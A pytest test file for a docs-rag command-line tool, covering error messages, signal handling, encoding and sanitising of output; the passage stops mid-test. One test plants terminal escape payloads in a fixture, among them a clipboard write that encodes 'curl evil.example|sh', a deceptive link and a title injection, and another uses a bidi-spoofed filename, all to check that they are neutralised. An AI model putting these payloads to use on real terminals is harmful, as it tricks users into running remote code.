"""The docs-rag console script, run as a real subprocess."""

from __future__ import annotations

import functools
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from .conftest import GUIDE, write_config, write_docs
from .dagster_helpers import index_guide

DOCS_RAG = [sys.executable, "-m", "docs_rag_pipeline"]


def _run(args, cfg: Path, **kw):
    env = {**os.environ, "DOCS_RAG_CONFIG": str(cfg), "DAGSTER_HOME": str(cfg.parent / "dagster_home")}
    return subprocess.run([*DOCS_RAG, *args], capture_output=True, text=True, env=env, cwd=cfg.parent, **kw)


def test_ingest_search_ask(guide):
    out = _run(["ingest", "--json"], guide)
    assert out.returncode == 0, out.stderr
    summary = json.loads(out.stdout)
    assert set(summary) == {"guide"}
    assert set(summary["guide"]) >= {"pages_new", "pages_changed", "pages_unchanged", "pages_deleted",
                                     "chunks_total", "chunks_embedded", "chunks_cached", "rows_written",
                                     "rows_deleted", "seconds"}
    assert summary["guide"]["pages_skipped"] == 0
    assert summary["guide"]["pages_new"] == 5 and summary["guide"]["chunks_embedded"] > 0
    # progress lines, one per step, in the log
    for phase in ("[DISCOVER]", "[PARSE]", "[CHUNK]", "[EMBED]", "[INDEX]"):
        assert phase in out.stderr
    # the run is recorded in the Dagster home the CLI set up
    assert "telemetry" in (guide.parent / "dagster_home" / "dagster.yaml").read_text()

    again = json.loads(_run(["ingest", "--json", "--source", "guide"], guide).stdout)
    assert again["guide"]["chunks_embedded"] == 0 and again["guide"]["rows_written"] == 0
    # --mode reparse parses and chunks every page again (after an upgrade); nothing changed, so every
    # chunk is rewritten with its id and its embedding (none computed again) and none is deleted
    rp = json.loads(_run(["ingest", "--json", "--mode", "reparse"], guide).stdout)
    assert rp["guide"]["pages_changed"] == 5 and rp["guide"]["pages_unchanged"] == 0
    assert rp["guide"]["chunks_embedded"] == 0 and rp["guide"]["rows_deleted"] == 0
    assert rp["guide"]["chunks_total"] == again["guide"]["chunks_total"]

    hits = json.loads(_run(["search", "ZX81_QUANTUM_FLUX", "--json"], guide).stdout)
    assert hits[0]["url"].endswith("install.md#troubleshooting")
    human = _run(["search", "data binding converters"], guide).stdout
    assert "https://docs.example.org/forms/binding.md#converters" in human

    ans = json.loads(_run(["ask", "How do I fix the ZX81_QUANTUM_FLUX import error?", "--json"], guide).stdout)
    assert ans["refused"] is False and ans["citations"][0]["url"].endswith("#troubleshooting")
    text = _run(["ask", "How do I fix the ZX81_QUANTUM_FLUX import error?"], guide).stdout
    assert "[1]" in text and "trace:" in text


def test_cli_errors_are_clear(guide):
    bad = _run(["ingest", "--source", "nope"], guide)
    assert bad.returncode == 2 and "unknown source 'nope'" in bad.stderr
    broken = guide.parent / "broken.yaml"
    broken.write_text("sources:\n  - {name: x, kind: local, path: docs, cron: '0 0 30 2 *'}\n")
    out = _run(["--config", str(broken), "search", "x"], guide)
    assert out.returncode == 2 and "sources[0].cron: '0 0 30 2 *' never fires" in out.stderr
    assert "Traceback" not in out.stderr
    gone = guide.parent / "gone.yaml"  # a missing folder fails that source's refresh, not the config
    gone.write_text("storage: gone-data\nsources:\n  - {name: x, kind: local, path: missing-folder}\n")
    out = _run(["--config", str(gone), "ingest"], guide)
    assert out.returncode == 1 and "Traceback" not in out.stderr
    assert "step scraped_pages failed: sources.x.path: " in out.stderr  # the message, not the class's path
    assert "missing-folder' does not exist; create it or fix the path" in out.stderr


@pytest.fixture(scope="module")
def index(tmp_path_factory) -> Path:
    return index_guide(tmp_path_factory.mktemp("cli"))


@pytest.mark.parametrize("args, needle", [
    (["search", "forms", "--source", "nope"], "error: --source: no source named 'nope'; configured sources: guide"),
    (["ask", "How do forms validate?", "--source", "nope"], "error: --source: no source named 'nope'; configured "
                                                            "sources: guide"),
    (["search", "forms", "--filter", "colour=red"], "error: --filter: unknown metadata key 'colour'; keys that exist: "),
    (["ask", "How do forms validate?", "--filter", "a\tb=1"], "error: --filter: invalid key 'a\\tb'"),
    (["ask", "How do forms validate?", "--top-k", "-3"], "error: --top-k must be an integer ≥ 1"),
    (["search", "forms", "--top-k", "0"], "error: --top-k must be an integer ≥ 1"),
    (["search", "forms", "--top-k", "9"], "error: --top-k must be an integer from 1 to 8 (api.max_top_k)"),
    (["ask", "  "], "error: 'question' must be a non-empty string"),
    (["search", ""], "error: 'query' must be a non-empty string"),
    (["ask", "refresh \udcff"], "error: 'question' is not valid Unicode text (a lone surrogate U+DCFF at position 8)"),
    (["search", "forms", "--source", "gu\udcffide"], "error: --source is not valid Unicode text"),
    # bytes that are not UTF-8 as the thread id: the option is named, not "a field name of the body"
    (["ask", "forms", "--thread", "\udcff" * 32], "error: --thread is not valid Unicode text (a lone surrogate U+DCFF "
                                                   "at position 0)"),
    (["ask", "forms", "--thread", "nope"], "error: --thread must be the 32-character hex id"),
])
def test_bad_input_is_exit_2_naming_the_argument(index, args, needle):
    out = _run(args, index)
    assert out.returncode == 2 and needle in out.stderr, out.stderr
    assert out.stdout == "" and "Traceback" not in out.stderr


@pytest.mark.parametrize("args, needle", [
    (["search", "forms", "--filter", "source=nope"], "error: --filter source: no source named 'nope'; configured "
                                                     "sources: guide"),
    (["ask", "How do forms validate?", "--source", "guide", "--filter", "source=nope"],
     "error: --filter source: no source named 'nope'; configured sources: guide"),
    (["search", "forms", "--filter", "section=gu\udcffide"], "error: --filter section is not valid Unicode text"),
])
def test_a_bad_filter_value_names_the_filter_option(index, args, needle):
    """`--filter source=nope` said `error: 'filters.source': no source named 'nope'`: the HTTP body's field,
    where every other --filter message names the option typed (the quoted field was not renamed)."""
    out = _run(args, index)
    assert out.returncode == 2 and out.stderr.startswith(needle), out.stderr
    assert "filters" not in out.stderr and out.stdout == "" and "Traceback" not in out.stderr


@pytest.mark.parametrize("args", [["ingest"], ["search", "forms"], ["serve", "--port", "{busy}"]])
def test_a_storage_path_that_is_not_utf8_is_exit_2_naming_storage(tmp_path, args):
    """The config in a folder whose name is not UTF-8 (Latin-1 `dätä`), `storage: data`: ingest failed in its
    first step with a bare UnicodeEncodeError (after making data/ folders), search with "'utf-8' codec can't
    encode character", serve answered 500. Now each stops before any work with the key and the fix."""
    from .test_config import latin1_folder

    import socket

    folder = latin1_folder(tmp_path)
    with socket.socket() as busy:  # a port in use: a serve that got past the config stops at once, never serves
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        out = _run([a.format(busy=busy.getsockname()[1]) for a in args], folder / "docs_rag.yaml", timeout=300)
    assert out.returncode == 2, out.stderr
    assert out.stderr.startswith("error: ") and "docs_rag.yaml: storage: '" in out.stderr, out.stderr
    assert "d\\xe4t\\xe4/data' is not UTF-8 (the byte 0xe4 in a folder name)" in out.stderr, out.stderr
    assert "codec" not in out.stderr and "Traceback" not in out.stderr
    assert sorted(os.listdir(folder)) == ["docs_rag.yaml"]  # nothing created


@pytest.mark.parametrize("args", [["search", "converter", "--top-k", "8"], ["ask", "What does a converter do?"],
                                  ["sources"], ["versions"], ["search", "converter", "--json"]])
def test_output_into_a_closed_pipe_is_no_traceback(index, args):
    """`docs-rag search … | head -1` printed a BrokenPipeError traceback and exited 1. A reader that
    goes away ends the command quietly with 141 (128 + SIGPIPE), as `yes | head` does."""
    env = {**os.environ, "DOCS_RAG_CONFIG": str(index), "DAGSTER_HOME": str(index.parent / "dagster_home")}
    proc = subprocess.Popen([*DOCS_RAG, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
                            cwd=index.parent)
    proc.stdout.close()  # the reader is gone before the first byte
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=300) == 141, err
    assert "Traceback" not in err and "BrokenPipe" not in err and "Exception ignored" not in err, err


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full (Linux)")
@pytest.mark.parametrize("args", [["sources"], ["search", "converter", "--json"], ["--version"], ["--help"]])
def test_output_to_a_full_disk_is_said_as_the_output_not_the_storage(index, args):
    """`docs-rag sources > /dev/full` (stdout to a full disk) said `the disk holding the storage folder … is
    full`, sending the operator to free a disk that was fine; `--version` and `--help` exited 0 with their
    output lost without a word. Each now names stdout and exits 74 (EX_IOERR)."""
    env = {**os.environ, "DOCS_RAG_CONFIG": str(index), "DAGSTER_HOME": str(index.parent / "dagster_home")}
    with open("/dev/full", "w") as full:
        out = subprocess.run([*DOCS_RAG, *args], stdout=full, stderr=subprocess.PIPE, text=True, env=env,
                             cwd=index.parent, timeout=300)
    assert out.returncode == 74, out.stderr
    assert out.stderr == ("error: cannot write the output (stdout): [Errno 28] No space left on device; the output "
                          "is incomplete: free space where it goes, or send it elsewhere\n"), out.stderr


@pytest.mark.parametrize("folder, bad", [("docs?v2", "'?'"), ("docs%20v2", "'%20'")])
def test_a_dagster_home_path_that_sqlite_would_read_as_a_url_is_refused(tmp_path, folder, bad):
    """Dagster opens ``sqlite:///<DAGSTER_HOME>/history/runs.db`` without quoting the path: under a
    project folder ``docs?v2`` the default home's run history went to a file ``docs`` beside it and the
    ingest died on "no such table: event_logs". Refused before Dagster starts; DAGSTER_HOME elsewhere works."""
    root = tmp_path / folder
    write_docs(root / "docs", GUIDE)
    cfg = write_config(root)
    env = {k: v for k, v in os.environ.items() if k != "DAGSTER_HOME"}
    out = subprocess.run([*DOCS_RAG, "ingest"], capture_output=True, text=True, cwd=root,
                         env={**env, "DOCS_RAG_CONFIG": str(cfg)})
    assert out.returncode == 2, out.stderr
    assert f"error: DAGSTER_HOME (unset: <storage>/dagster_home): {root / 'data' / 'dagster_home'} holds {bad}" \
           in out.stderr and "set DAGSTER_HOME to a folder whose path has no '?'" in out.stderr, out.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == [folder]  # nothing written beside the project
    out = subprocess.run([*DOCS_RAG, "ingest"], capture_output=True, text=True, cwd=root,
                         env={**env, "DOCS_RAG_CONFIG": str(cfg), "DAGSTER_HOME": str(tmp_path / "home")})
    assert out.returncode == 0, out.stderr


def test_an_unlucky_environment_is_named_before_any_work(guide, tmp_path):
    """Each of these ended in a traceback or a misleading line: TMPDIR missing (scan, parse and embed
    ran, then LanceDB's write failed with "Failed to create temp dir"), a config path that is a folder
    ("not found"), stdout or stdin closed by a daemon wrapper (AttributeError on None), `eval --json`
    at a folder (the whole eval ran, then IsADirectoryError lost it)."""
    out = subprocess.run([*DOCS_RAG, "ingest"], capture_output=True, text=True, cwd=guide.parent,
                         env={**os.environ, "DOCS_RAG_CONFIG": str(guide), "TMPDIR": str(tmp_path / "missing"),
                              "DAGSTER_HOME": str(guide.parent / "dagster_home")})
    assert out.returncode == 2 and "Traceback" not in out.stderr, out.stderr
    assert f"error: TMPDIR={tmp_path / 'missing'} does not exist; the index writes its temporary files there" \
        in out.stderr and "[DISCOVER]" not in out.stderr
    out = subprocess.run([*DOCS_RAG, "--config", str(tmp_path), "sources"], capture_output=True, text=True)
    assert out.returncode == 2 and f"error: config file '{tmp_path}' is a folder; point --config" in out.stderr
    for closed in ({"stdout": None, "args": ["sources"]}, {"stdin": None, "args": ["mcp"]}):
        fd = 1 if "stdout" in closed else 0
        res = subprocess.run([*DOCS_RAG, *closed["args"]], stderr=subprocess.PIPE, text=True, timeout=120,
                             env={**os.environ, "DOCS_RAG_CONFIG": str(guide)}, pass_fds=(),
                             preexec_fn=lambda fd=fd: os.close(fd))
        assert res.returncode == 0 and "Traceback" not in res.stderr, (closed, res.stderr)
    out = _run(["eval", "--json", str(tmp_path)], guide)
    assert out.returncode == 2 and f"error: --json: {tmp_path} is a folder" in out.stderr, out.stderr
    out = _run(["eval", "--json", str(tmp_path / "no" / "such.json")], guide)
    assert out.returncode == 2 and f"--json: the folder {tmp_path / 'no'} does not exist" in out.stderr


def _held_at_import(module: str, config: Path, tmp_path: Path) -> tuple[dict[str, str], Path]:
    """The environment of a `docs-rag` process whose import of ``module`` waits 120 s (an import hook
    in sitecustomize), and the file the hook writes when it starts waiting: a signal sent once that
    file exists comes while the process is there (no timing)."""
    import textwrap

    hook = tmp_path / "hook"
    hook.mkdir()
    started = tmp_path / "held"
    (hook / "sitecustomize.py").write_text(textwrap.dedent(f"""
        import sys, time
        class Hold:
            def find_spec(self, name, path=None, target=None):
                if name == {module!r}:
                    open({str(started)!r}, "w").close()
                    time.sleep(120)
                return None
        sys.meta_path.insert(0, Hold())
    """))
    env = {**os.environ, "DOCS_RAG_CONFIG": str(config),
           "PYTHONPATH": os.pathsep.join([str(hook), *filter(None, [os.environ.get("PYTHONPATH")])])}
    return env, started


def _signal_once_held(proc: subprocess.Popen, started: Path, sig: int) -> str:
    """Send ``sig`` to ``proc`` once its held import has started (see :func:`_held_at_import`); its stderr."""
    import time

    deadline = time.monotonic() + 120
    while not started.exists() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert started.exists(), proc.communicate()[1]
    proc.send_signal(sig)
    return proc.communicate(timeout=60)[1]


def test_ctrl_c_while_the_command_is_still_importing_is_the_one_line_stop(guide, tmp_path):
    """A Ctrl-C in the first second of any command (while pydantic, numpy and the rest are imported)
    ended in a KeyboardInterrupt traceback out of an import. An import hook holds the import of the
    config module until the signal comes (no timing: the hook writes a file when it starts waiting)."""
    import signal

    env, started = _held_at_import("docs_rag_pipeline.config", guide, tmp_path)
    # a terminal's Ctrl-C: SIGINT at its default (a background job of a script, as `make test &`, starts
    # with it ignored, and Python then never turns it into KeyboardInterrupt)
    proc = subprocess.Popen([*DOCS_RAG, "sources"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env=env, preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    err = _signal_once_held(proc, started, signal.SIGINT)
    assert proc.returncode == 130 and "Traceback" not in err, err
    assert err.strip() == ("stopped by a signal (SIGTERM or Ctrl-C): what was committed before stays; "
                           "run the command again to finish")


def _children(pid: int) -> list[str]:
    """The command lines of ``pid``'s child processes (Linux /proc)."""
    out = []
    for d in Path("/proc").iterdir():
        try:
            if d.name.isdigit() and int((d / "stat").read_text().rsplit(")", 1)[1].split()[1]) == pid:
                out.append((d / "cmdline").read_bytes().replace(b"\0", b" ").decode())
        except (OSError, ValueError, IndexError):
            continue
    return out


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_ctrl_c_of_a_terminal_during_an_ingest_step_is_the_one_line_stop(guide, tmp_path):
    """A terminal's Ctrl-C is SIGINT to the whole foreground process group: it reached the `tail -F` and
    watch_orphans.py helpers Dagster's compute-log capture starts for each step, and each Python helper
    printed a KeyboardInterrupt traceback above the one-line stop. The import hook holds the scan step
    (its import of the local source's module) until the signal comes (no timing)."""
    import signal
    import time

    env, started = _held_at_import("docs_rag_pipeline.sources.local", guide, tmp_path)
    env["DAGSTER_HOME"] = str(tmp_path / "dagster_home")
    proc = subprocess.Popen([*DOCS_RAG, "ingest"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env=env, cwd=guide.parent, start_new_session=True,  # leads its group, as in a shell
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    try:
        deadline = time.monotonic() + 300
        while not started.exists() and proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)
        assert started.exists(), proc.communicate()[1]
        assert any("watch_orphans" in c for c in _children(proc.pid)), _children(proc.pid)  # the step runs
        os.killpg(proc.pid, signal.SIGINT)
        err = proc.communicate(timeout=120)[1]
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    assert proc.returncode == 130 and "Traceback" not in err, err
    assert err.strip().splitlines()[-1] == ("stopped by a signal (SIGTERM or Ctrl-C): what was committed before "
                                            "stays; run the command again to finish")


def test_sigterm_to_search_is_the_one_line_stop_with_130(guide, tmp_path):
    """`kill PID` of `docs-rag search` or `ask` (or of an `ingest` still starting up) ended the process
    by the signal: 143 and no line, where the exit status table promises 130 and the line. An import
    hook holds the command's import of the query module until the signal comes (no timing)."""
    import signal

    env, started = _held_at_import("docs_rag_pipeline.query", guide, tmp_path)
    proc = subprocess.Popen([*DOCS_RAG, "search", "widgets"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, env=env)
    err = _signal_once_held(proc, started, signal.SIGTERM)
    assert proc.returncode == 130 and "Traceback" not in err, err
    assert err.strip() == ("stopped by a signal (SIGTERM or Ctrl-C): what was committed before stays; "
                           "run the command again to finish")


def test_sigterm_while_the_command_is_still_importing_is_the_one_line_stop(guide, tmp_path):
    """`kill PID` of any command while it imports its CLI module (pydantic, numpy and the rest: seconds on
    a cold machine) ended it by the signal, 143 and no line: the SIGTERM handler came only after that
    import, and the entry point caught Ctrl-C alone. The import hook holds the config module's import."""
    import signal

    env, started = _held_at_import("docs_rag_pipeline.config", guide, tmp_path)
    proc = subprocess.Popen([*DOCS_RAG, "versions"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env=env)
    err = _signal_once_held(proc, started, signal.SIGTERM)
    assert proc.returncode == 130 and "Traceback" not in err, err
    assert err.strip() == ("stopped by a signal (SIGTERM or Ctrl-C): what was committed before stays; "
                           "run the command again to finish")


def _read_json_summary(proc: subprocess.Popen) -> dict:
    """The `ingest --json` object, read from ``proc``'s stdout up to its closing brace (the process goes on)."""
    lines = []
    while not lines or lines[-1] != "}\n":
        line = proc.stdout.readline()
        assert line, proc.communicate()[1]
        lines.append(line)
    return json.loads("".join(lines))


def test_sigterm_after_the_ingest_summary_is_the_one_line_stop_not_a_kill(index, tmp_path):
    """A SIGTERM after `ingest --json` printed its summary, while the process exits (a supervisor stopping a
    run that is done), ended it by the signal: 143 and no line. The interpreter's exit drops the signal
    handlers, then spends 1 to 5 s freeing LanceDB, Dagster and the embedder. First a deterministic case: an
    atexit function (registered at start-up, so it runs last) holds the exit until the signal came; then
    the real exit, signalled as soon as the summary is read: it stops with 130 and the line, or had ended
    with 0, never by the signal."""
    import signal
    import textwrap

    stopped = ("stopped by a signal (SIGTERM or Ctrl-C): what was committed before stays; "
               "run the command again to finish")
    hook = tmp_path / "hook"
    hook.mkdir()
    started = tmp_path / "exiting"
    (hook / "sitecustomize.py").write_text(textwrap.dedent(f"""
        import atexit, time
        def hold():
            open({str(started)!r}, "w").close()
            time.sleep(120)
        atexit.register(hold)
    """))
    env = {**os.environ, "DOCS_RAG_CONFIG": str(index), "DAGSTER_HOME": str(index.parent / "dagster_home")}
    held = {**env, "PYTHONPATH": os.pathsep.join([str(hook), *filter(None, [os.environ.get("PYTHONPATH")])])}
    proc = subprocess.Popen([*DOCS_RAG, "ingest", "--json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, env=held, cwd=index.parent)
    assert set(_read_json_summary(proc)) == {"guide"}
    err = _signal_once_held(proc, started, signal.SIGTERM)
    assert proc.returncode == 130 and "Traceback" not in err, err
    assert err.endswith(stopped + "\n"), err

    proc = subprocess.Popen([*DOCS_RAG, "ingest", "--json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, env=env, cwd=index.parent)
    assert set(_read_json_summary(proc)) == {"guide"}
    proc.send_signal(signal.SIGTERM)
    err = proc.communicate(timeout=120)[1]
    assert proc.returncode in (0, 130) and "Traceback" not in err, (proc.returncode, err)
    assert err.endswith(stopped + "\n") == (proc.returncode == 130), err


def test_control_characters_are_shown_not_obeyed(tmp_path):
    """A page's raw ESC sequences (a screen clear, an OSC 8 link showing one URL and opening another, an
    OSC 52 clipboard write) went into the index and through `docs-rag search`/`ask` to the terminal, and a
    question anyone sent to /ask came back through `docs-rag feedback list` the same way. Documents lose
    them at parse time; what the command prints shows any that is left (`^[`), never obeys it."""
    from dagster import DagsterInstance

    from docs_rag_pipeline import ask
    from docs_rag_pipeline.config import load_config
    from docs_rag_pipeline.feedback import record_feedback

    from .dagster_helpers import materialize_source

    esc, bel = "\x1b", "\x07"
    write_docs(tmp_path / "docs", {**GUIDE, "terminal.md": (
        f"# Flux{esc}[2J{esc}[H capacitor\n\nThe flux capacitor needs {esc}[31m1.21 gigawatts{esc}[0m; see "
        f"{esc}]8;;https://evil.example/{bel}the cache docs{esc}]8;;{bel} and "
        f"{esc}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g={bel}restart the flux capacitor.\n")})
    cfg = write_config(tmp_path)
    with DagsterInstance.ephemeral() as instance:
        materialize_source(cfg, "guide", instance)
    hits = json.loads(_run(["search", "flux capacitor gigawatts", "--json"], cfg).stdout)
    assert hits[0]["title"] == "Flux capacitor" and "needs 1.21 gigawatts; see the cache docs and restart" in hits[0]["text"]
    for args in (["search", "flux capacitor gigawatts"], ["ask", "How many gigawatts does the flux capacitor need?"]):
        out = _run(args, cfg)
        assert out.returncode == 0 and "gigawatts" in out.stdout, out.stderr
        assert esc not in out.stdout + out.stderr and bel not in out.stdout + out.stderr

    question = f"How many gigawatts{esc}]0;pwned{bel}{esc}[2J does the flux capacitor need?"
    answer = ask(question, config=str(cfg))
    record_feedback(load_config(cfg), answer.trace_id, "down", f"wrong{esc}[8m hidden")
    listed = _run(["feedback", "list"], cfg)
    assert listed.returncode == 0, listed.stderr
    # the question is read and logged as its text (its escape sequences go, as a document's do); the comment is shown
    assert "How many gigawatts does the flux capacitor need?" in listed.stdout and "wrong^[[8m hidden" in listed.stdout
    assert esc not in listed.stdout and bel not in listed.stdout


def test_a_terminal_that_is_not_utf8_gets_the_whole_output(tmp_path):
    """unicode F11: on a Latin-1 terminal (``PYTHONIOENCODING=latin-1``, a Latin-1 or ASCII locale)
    `docs-rag ask` printed the answer, then failed at its own "—" with exit 2, losing the sources and
    the trace line; `search` at its "›" or at a character of a page. A character the terminal lacks is
    written as a JSON escape now, so `--json` output still reads back as the same text."""
    from dagster import DagsterInstance

    from .dagster_helpers import materialize_source

    write_docs(tmp_path / "docs", {**GUIDE, "zebra.md": "# Zebra protocol 🦓\n\nThe zebra protocol uses port 4242 — "
                                                        "always — for syncing replicas.\n"})
    cfg = write_config(tmp_path)
    with DagsterInstance.ephemeral() as instance:
        materialize_source(cfg, "guide", instance)
    env = {**os.environ, "DOCS_RAG_CONFIG": str(cfg), "DAGSTER_HOME": str(tmp_path / "dagster_home"),
           "PYTHONIOENCODING": "latin-1"}
    run = functools.partial(subprocess.run, capture_output=True, env=env, cwd=tmp_path)
    out = run([*DOCS_RAG, "ask", "Which port does the zebra protocol use?"])
    assert out.returncode == 0, out.stderr
    text = out.stdout.decode("latin-1")
    assert "4242 \\u2014 always" in text and "zebra.md" in text and "trace:" in text, text
    out = run([*DOCS_RAG, "search", "zebra protocol port"])
    assert out.returncode == 0 and "Zebra protocol \\ud83e\\udd93" in out.stdout.decode("latin-1"), out.stderr
    out = run([*DOCS_RAG, "search", "zebra protocol port", "--json"])
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout.decode("latin-1"))[0]["title"] == "Zebra protocol 🦓"


def test_sources_names_where_each_source_reads_from(tmp_path):
    """`docs-rag sources` printed `None` as the place of every web and git source."""
    (tmp_path / "docs").mkdir()
    cfg = tmp_path / "docs_rag.yaml"
    cfg.write_text("sources:\n"
                   "  - {name: guide, kind: local, path: docs}\n"
                   "  - {name: site, kind: web, seed_urls: ['https://docs.example.org/start/'], cron: '0 3 * * *'}\n"
                   "  - {name: repo, kind: git, repo: 'https://git.example.org/acme/docs.git', branch: main, "
                   "subpath: docs}\n")
    out = _run(["sources"], cfg)
    assert out.returncode == 0, out.stderr
    rows = [line.split("\t") for line in out.stdout.splitlines()]
    assert [r[:3] for r in rows] == [["guide", "local", str(tmp_path / "docs")],
                                     ["site", "web", "https://docs.example.org/start/"],
                                     ["repo", "git", "https://git.example.org/acme/docs.git@main docs"]], rows
    assert "None" not in out.stdout
    # docswalk F3: cli.md said the third field is an absolute path, for every kind
    section = (Path(__file__).resolve().parent.parent / "docs" / "interfaces" / "cli.md").read_text(encoding="utf-8")
    section = section.split("## docs-rag sources", 1)[1].split("\n## ", 1)[0]
    assert "name, kind, absolute path, cron" not in section
    for said in ("the folder's absolute path (`local`)", "the first of the `seed_urls` (`web`)",
                 "`@<branch>` when `branch` is set and a space and the `subpath`"):
        assert said in section, f"cli.md's docs-rag sources no longer says {said}"


def test_sources_prints_no_password_of_a_repo_or_seed_url(tmp_path):
    """`docs-rag sources` printed a git repo's and a web seed URL's ``user:token@`` as written (a CI job that
    lists the sources published the token), where logs, errors and state.json show them without (secrets F4)."""
    cfg = tmp_path / "docs_rag.yaml"
    cfg.write_text("sources:\n"
                   "  - {name: site, kind: web, seed_urls: ['https://u:WebPw-4b1a@intranet.example.org/docs/']}\n"
                   "  - {name: repo, kind: git, repo: 'https://ci:GitTok-9d2e@git.example.org/acme/docs.git', "
                   "branch: main}\n"
                   "  - {name: ssh, kind: git, repo: 'git@git.example.org:acme/docs.git'}\n")
    out = _run(["sources"], cfg)
    assert out.returncode == 0, out.stderr
    rows = [line.split("\t")[:3] for line in out.stdout.splitlines()]
    assert rows == [["site", "web", "https://intranet.example.org/docs/"],
                    ["repo", "git", "https://git.example.org/acme/docs.git@main"],
                    ["ssh", "git", "git@git.example.org:acme/docs.git"]], rows


def test_stderr_shows_bidi_controls_escaped_and_stdout_keeps_right_to_left_text(tmp_path):
    """hostiledocs F4: a message on stderr that names a file (a warning, an error, a progress line passed on
    from a step) showed its right-to-left override raw, and the terminal drew the rest of the line reversed;
    C0 and C1 controls were already shown. stderr shows every bidi control (``<U+202E>``); stdout, which
    carries answers, keeps the marks and closed isolates a right-to-left text needs."""
    script = ("import sys\nfrom docs_rag_pipeline import cli\n"
              "def run(argv):\n"
              "    print('\u05e9\u05dc\u05d5\u05dd\u200f! \u2067\u05d0\u2069 ok')\n"
              "    print('warning: cannot read report\u202egnp.exe.md (\u2066x\u2069 \u200e\u061c)', file=sys.stderr)\n"
              "    return 0\n"
              "cli._main = run\nsys.exit(cli.main())\n")
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=tmp_path,
                         env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])})
    assert out.returncode == 0, out.stderr
    assert out.stdout == "\u05e9\u05dc\u05d5\u05dd\u200f! \u2067\u05d0\u2069 ok\n", ascii(out.stdout)
    assert out.stderr == ("warning: cannot read report<U+202E>gnp.exe.md (<U+2066>x<U+2069> <U+200E><U+061C>)\n"), \
        ascii(out.stderr)


def test_a_traceback_shows_control_characters_too(tmp_path):
    """An error no handler expected (its message from a server or a document) printed its traceback
    after the command had put its plain streams back: ESC reached the terminal there."""
    script = ("import sys\nfrom docs_rag_pipeline import cli\n"
              "def boom(argv):\n    raise RuntimeError('the server said \\x1b]0;pwned\\x07\\x1b[2J')\n"
              "cli._main = boom\nsys.exit(cli.main())\n")
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=tmp_path,
                         env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])})
    assert out.returncode == 1 and "RuntimeError: the server said ^[]0;pwned^G^[[2J" in out.stderr, out.stderr
    assert "\x1b" not in out.stderr and "\x07" not in out.stderr


def test_ui_on_a_port_in_use_is_an_error_not_a_ui_less_dagster(guide):
    """`docs-rag ui` on a port something already listens on started `dagster dev` anyway: its webserver
    failed to bind, the daemon and code server kept running with no UI, and the log still said it served
    there. It now stops before starting anything, naming the address and what to do."""
    import signal
    import socket

    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        proc = subprocess.Popen([*DOCS_RAG, "ui", "--port", str(port)], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, start_new_session=True,
                                env={**os.environ, "DOCS_RAG_CONFIG": str(guide)})
        try:
            _, err = proc.communicate(timeout=90)
        except subprocess.TimeoutExpired:  # dagster dev started regardless: stop it and its children
            os.killpg(proc.pid, signal.SIGKILL)
            _, err = proc.communicate()
            raise AssertionError(f"docs-rag ui kept running on a port in use:\n{err[-2000:]}") from None
    assert proc.returncode == 2 and "Traceback" not in err, err
    assert f"cannot listen on 127.0.0.1:{port}" in err and "pick another with --port" in err, err


def test_an_embedding_setting_that_cannot_work_is_exit_2_as_a_config_error(openai_index):
    """An unset API key variable or an embedding.model that is no model exited 69 (EX_UNAVAILABLE: "the
    server is down, try later") like a server outage; waiting fixes neither: they are config errors, 2."""
    cfg, srv = openai_index
    text = cfg.read_text()
    keyless = cfg.with_name("keyless.yaml")
    keyless.write_text(text.replace(f"base_url: {srv.url}", "api_key_env: DOCS_RAG_TEST_NO_SUCH_KEY"))
    nomodel = cfg.with_name("nomodel.yaml")
    nomodel.write_text(text.replace("provider: openai", "provider: local").replace("model: fake-64",
                                                                                  f"model: {cfg.parent / 'nope'}"))
    for path, says in ((keyless, "error: embedding.api_key_env: environment variable DOCS_RAG_TEST_NO_SUCH_KEY is "
                                 "not set"),
                       (nomodel, f"error: embedding.model: '{cfg.parent / 'nope'}' is neither a packaged model")):
        out = _run(["search", "forms"], path)
        assert out.returncode == 2 and out.stderr.startswith(says) and "Traceback" not in out.stderr, out.stderr


def test_search_and_ask_with_the_embedding_server_down_are_one_line_and_exit_69(openai_index):
    """embedapi F1: with the embedding server down (or refusing) `search` and `ask` printed a Python
    traceback ending in EmbeddingError and exited with 1 (the status of a failed ingest). Now it is one
    `error:` line naming the server and what to check, and 69 (EX_UNAVAILABLE), as for the object store."""
    cfg, srv = openai_index
    out = _run(["search", "forms"], cfg)
    assert out.returncode == 0, out.stderr
    srv.reply = lambda texts, headers: (200, {"Content-Type": "text/html"}, b"<html>Bad gateway</html>")
    out = _run(["search", "forms"], cfg)  # an HTML page in place of vectors (a proxy's error page)
    assert out.returncode == 69 and "Traceback" not in out.stderr, out.stderr
    assert out.stderr.startswith(f"error: embedding server at {srv.url}/: its answer could not be read")
    srv.close()
    for args in (["search", "forms"], ["ask", "How do forms validate input?"]):  # the server is gone now
        out = _run(args, cfg)
